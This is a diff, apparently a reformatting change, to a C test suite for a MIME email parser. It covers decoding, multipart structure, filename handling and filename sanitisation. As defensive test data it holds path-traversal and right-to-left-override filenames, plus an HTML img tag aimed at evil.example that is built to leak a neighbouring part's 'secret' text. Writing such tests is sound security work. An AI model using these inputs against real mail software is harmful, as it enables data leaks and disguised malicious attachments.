@@ -78,8 +78,10 @@ static const Row rows[] = {
   { "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\nSGVsbG8=\nV29ybGQ=\n",
     "text/plain", "HelloWorld\n", 0 },
   { "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: Quoted-Printable\n\n"
-    "Gr=FC=DFe", "text/plain", "Grüße\n", 0 },
-  { "Content-Type: text/plain; format=flowed; delsp=yes\n\none \ntwo", "text/plain", "onetwo\n", 0 },
+    "Gr=FC=DFe",
+    "text/plain", "Grüße\n", 0 },
+  { "Content-Type: text/plain; format=flowed; delsp=yes\n\none \ntwo", "text/plain", "onetwo\n",
+    0 },
   { MULTI ("mixed") TEXT END, "multipart/mixed(text/plain)", "plain\n", 0 },
   { MULTI ("mixed") "preamble\n" TEXT END "epilogue", "multipart/mixed(text/plain)", "plain\n", 0 },
   { MULTI ("mixed") TEXT, "multipart/mixed(text/plain)", "plain\n", 0 },
@@ -92,11 +94,14 @@ static const Row rows[] = {
   { MULTI ("mixed") "--b\n\nx --b\n" END, "multipart/mixed(text/plain)", "x --b\n", 0 },
   { MULTI ("mixed") TEXT "--b\nContent-Type: image/png; name=a.png\n\nx\n" END,
     "multipart/mixed(text/plain,image/png)", "plain\n", 1 },
-  { MULTI ("mixed") TEXT TEXT END, "multipart/mixed(text/plain,text/plain)", "plain\n\nplain\n", 0 },
+  { MULTI ("mixed") TEXT TEXT END, "multipart/mixed(text/plain,text/plain)", "plain\n\nplain\n",
+    0 },
   { MULTI ("mixed") TEXT "--b\nContent-Type: text/plain; name=a.patch\n\nx\n" END,
     "multipart/mixed(text/plain,text/plain)", "plain\n", 1 },
-  { MULTI ("alternative") TEXT HTML END, "multipart/alternative(text/plain,text/html)", "plain\n", 0 },
-  { MULTI ("alternative") HTML TEXT END, "multipart/alternative(text/html,text/plain)", "plain\n", 0 },
+  { MULTI ("alternative") TEXT HTML END, "multipart/alternative(text/plain,text/html)", "plain\n",
+    0 },
+  { MULTI ("alternative") HTML TEXT END, "multipart/alternative(text/html,text/plain)", "plain\n",
+    0 },
   { MULTI ("alternative") HTML END, "multipart/alternative(text/html)", "rich\n", 0 },
   { MULTI ("alternative") "--b\n\n \n" HTML END, "multipart/alternative(text/plain,text/html)",
     "rich\n", 0 },
@@ -109,16 +114,18 @@ static const Row rows[] = {
   { MULTI ("signed") TEXT "--b\nContent-Type: application/pgp-signature\n\nx\n" END,
     "multipart/signed(text/plain,application/pgp-signature)", "plain\n", 0 },
   { MULTI ("report") TEXT "--b\nContent-Type: message/delivery-status\n\nx: y\n"
-    "--b\nContent-Type: message/rfc822\n\nSubject: inner\n\nz\n" END,
-    "multipart/report(text/plain,message/delivery-status,message/rfc822(text/plain))", "plain\n", 2 },
+                          "--b\nContent-Type: message/rfc822\n\nSubject: inner\n\nz\n" END,
+    "multipart/report(text/plain,message/delivery-status,message/rfc822(text/plain))", "plain\n",
+    2 },
   { MULTI ("digest") "--b\n\nSubject: one\n\nx\n--b\n\nSubject: two\n\ny\n" END,
     "multipart/digest(message/rfc822(text/plain),message/rfc822(text/plain))", "", 2 },
-  { MULTI ("mixed") "--b\nContent-Type: multipart/alternative; boundary=c\n\n--c\n\nin\n--b\n\nout\n" END,
+  { MULTI ("mixed") "--b\nContent-Type: multipart/alternative; "
+                    "boundary=c\n\n--c\n\nin\n--b\n\nout\n" END,
     "multipart/mixed(multipart/alternative(text/plain),text/plain)", "in\n\nout\n", 0 },
   { MULTI ("mixed") "--b\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nin\n--b--\n",
     "multipart/mixed(multipart/mixed,text/plain)", "in\n", 0 },
-  { "Content-Type: multipart/mixed\n\n--guess.me\n\nx\n--guess.me--\n", "multipart/mixed(text/plain)",
-    "x\n", 0 },
+  { "Content-Type: multipart/mixed\n\n--guess.me\n\nx\n--guess.me--\n",
+    "multipart/mixed(text/plain)", "x\n", 0 },
   { "Content-Type: multipart/mixed; boundary=none\n\nonly text\n", "multipart/mixed(text/plain)",
     "only text\n", 0 },
   { "Content-Type: multipart/mixed; boundary=\"\"\n\nonly text\n", "multipart/mixed(text/plain)",
@@ -139,8 +146,8 @@ test_table (void)
       g_autofree char *structure = tree (message);
       g_autofree char *text = shown (message);
 
-      if (strcmp (structure, rows[i].tree) != 0 || strcmp (text, rows[i].text) != 0
-          || message->n_attachments != rows[i].n_attachments)
+      if (strcmp (structure, rows[i].tree) != 0 || strcmp (text, rows[i].text) != 0 ||
+          message->n_attachments != rows[i].n_attachments)
         g_test_message ("row: %s", rows[i].raw);
       g_assert_cmpstr (structure, ==, rows[i].tree);
       g_assert_cmpstr (text, ==, rows[i].text);
@@ -162,8 +169,8 @@ test_cut (void)
       }
 }
 
-static const char nested[]
-  = "Subject: outer\n"
+static const char nested[] =
+    "Subject: outer\n"
     "Content-Type: multipart/mixed; boundary=b\n\n"
     "--b\nContent-Type: multipart/alternative; boundary=c\n\n"
     "--c\n\nplain\n"
@@ -190,8 +197,9 @@ test_numbers (void)
     { "1.1", "text", "plain" },
     { "1.2", "text", "<p>rich" },
     { "2", "application", "Hello" },
-    { "3", "message", "Subject: inner\nContent-Type: multipart/mixed; boundary=d\n\n--d\n\n"
-                      "inner text\n--d--" },
+    { "3", "message",
+      "Subject: inner\nContent-Type: multipart/mixed; boundary=d\n\n--d\n\n"
+      "inner text\n--d--" },
     { "3.1", "text", "inner text" },
     { "4", "message", "Subject: plain inner\n\nx" },
     { "4.1", "text", "x" },
@@ -253,8 +261,12 @@ test_filename_parameters (void)
     { "attachment; filename=\"=?utf-8?Q?Gr=C3=BC=C3=9Fe.pdf?=\"", "Grüße.pdf" },
     { "attachment; filename==?utf-8?B?R3LDvMOfZQ==?=", "Grüße" },
     { "attachment; filename=\"=?utf-8?B?SGVsbG8=?= =?utf-8?B?V29ybGQ=?=\"", "HelloWorld" },
-    { "attachment; filename=\"Gr\xc3\xbc\xc3\x9f" "e.pdf\"", "Grüße.pdf" },
-    { "attachment; filename=\"Gr\xfc\xdf" "e.pdf\"", "Grüße.pdf" },
+    { "attachment; filename=\"Gr\xc3\xbc\xc3\x9f"
+      "e.pdf\"",
+      "Grüße.pdf" },
+    { "attachment; filename=\"Gr\xfc\xdf"
+      "e.pdf\"",
+      "Grüße.pdf" },
     { "attachment; filename=\"unclosed.pdf", "unclosed.pdf" },
     { "attachment; filename=", NULL },
     { "attachment; filename=\"\"", NULL },
@@ -268,8 +280,7 @@ test_filename_parameters (void)
 
   for (gsize i = 0; i < G_N_ELEMENTS (table); i++)
     {
-      g_autofree char *raw
-        = g_strdup_printf ("Content-Disposition: %s\n\nx", table[i].disposition);
+      g_autofree char *raw = g_strdup_printf ("Content-Disposition: %s\n\nx", table[i].disposition);
       g_autoptr (MimeMessage) message = parse (raw);
 
       if (g_strcmp0 (message->root->filename, table[i].name) != 0)
@@ -281,7 +292,8 @@ test_filename_parameters (void)
 static void
 test_parameters_get (void)
 {
-  static const char *const pairs[] = { "charset", "utf-8", "NAME*0*", "utf-8''a%20", "name*1", "b", NULL };
+  static const char *const pairs[] = { "charset", "utf-8", "NAME*0*", "utf-8''a%20",
+                                       "name*1",  "b",     NULL };
   g_autofree char *name = mime_parameters_get (pairs, "name");
   g_autofree char *charset = mime_parameters_get (pairs, "Charset");
 
@@ -308,13 +320,24 @@ test_filename_safe (void)
     { "..\\..\\x", "_.._x" },
     { "a/b\\c:d", "a_b_c_d" },
     { "trailing. . ", "trailing" },
-    { "a\x01\x02\x1f\x7f" "b", "ab" },
+    { "a\x01\x02\x1f\x7f"
+      "b",
+      "ab" },
     { "a\nb", "a b" },
-    { "safe\xe2\x80\xae" "fdp.exe", "safefdp.exe" },
-    { "a\xe2\x80\x8b\xe2\x80\x8d\xef\xbb\xbf" "b", "ab" },
+    { "safe\xe2\x80\xae"
+      "fdp.exe",
+      "safefdp.exe" },
+    { "a\xe2\x80\x8b\xe2\x80\x8d\xef\xbb\xbf"
+      "b",
+      "ab" },
     { "cafe\xcc\x81.txt", "caf\xc3\xa9.txt" },
-    { "a\xe2\x81\x84" "b", "a_b" },
-    { "a\xff" "b", "a\xef\xbf\xbd" "b" },
+    { "a\xe2\x81\x84"
+      "b",
+      "a_b" },
+    { "a\xff"
+      "b",
+      "a\xef\xbf\xbd"
+      "b" },
     { "con", "_con" },
     { "CON.txt", "_CON.txt" },
     { "console.txt", "console.txt" },
@@ -364,10 +387,10 @@ test_dangerous (void)
 static void
 test_parts_stay_apart (void)
 {
-  g_autoptr (MimeMessage) message
-    = parse (MULTI ("mixed") "--b\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n"
-             "--b\nContent-Type: text/plain\n\nsecret\n"
-             "--b\nContent-Type: text/html\n\n\">\n" END);
+  g_autoptr (MimeMessage) message =
+      parse (MULTI ("mixed") "--b\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n"
+                             "--b\nContent-Type: text/plain\n\nsecret\n"
+                             "--b\nContent-Type: text/html\n\n\">\n" END);
   g_autofree char *text = shown (message);
 
   g_assert_cmpstr (text, ==, "secret\n\n\">\n");
